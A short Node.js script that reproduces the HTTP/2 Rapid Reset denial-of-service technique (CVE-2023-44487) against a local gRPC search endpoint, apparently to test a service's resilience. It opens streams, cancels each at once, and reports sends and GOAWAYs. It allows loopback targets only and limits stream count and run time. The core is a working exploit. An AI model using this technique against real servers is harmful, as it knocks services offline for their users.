// Opens streams and resets each at once, as CVE-2023-44487 does: node rapid-reset.mjs URL CA STREAMS
// Bounded in count and time; to loopback only. Prints how far it came.
import { readFileSync } from "node:fs";
import http2 from "node:http2";

const [url, ca, streams] = process.argv.slice(2);
if (!["localhost", "127.0.0.1"].includes(new URL(url).hostname)) {
  throw new Error("loopback only");
}
const PER_CONNECTION = 2_000;
const deadline = Date.now() + 15_000;
let sent = 0;
let connections = 0;
let refused = 0;

function connection() {
  return new Promise((over) => {
    connections++;
    const session = http2.connect(url, { ca: readFileSync(ca) });
    const end = () => {
      clearInterval(timer);
      session.destroy();
      over();
    };
    session.on("error", end).on("close", end).on("goaway", () => refused++);
    let here = 0;
    const timer = setInterval(() => {
      for (let i = 0; i < 100 && here < PER_CONNECTION && sent < streams && !session.closed && !session.destroyed; i++, here++, sent++) {
        const stream = session.request({
          ":method": "POST",
          ":path": "/onsale.query.v1.CatalogQueryService/SearchEvents",
          "content-type": "application/grpc",
          te: "trailers",
        });
        stream.on("error", () => {});
        stream.close(http2.constants.NGHTTP2_CANCEL);
      }
      if (here >= PER_CONNECTION) {
        clearInterval(timer);
        setTimeout(end, 20);
      } else if (sent >= streams || Date.now() > deadline) {
        end();
      }
    }, 1);
  });
}

while (sent < streams && Date.now() < deadline) {
  await connection();
}
console.log(JSON.stringify({ sent, connections, goaways: refused }));
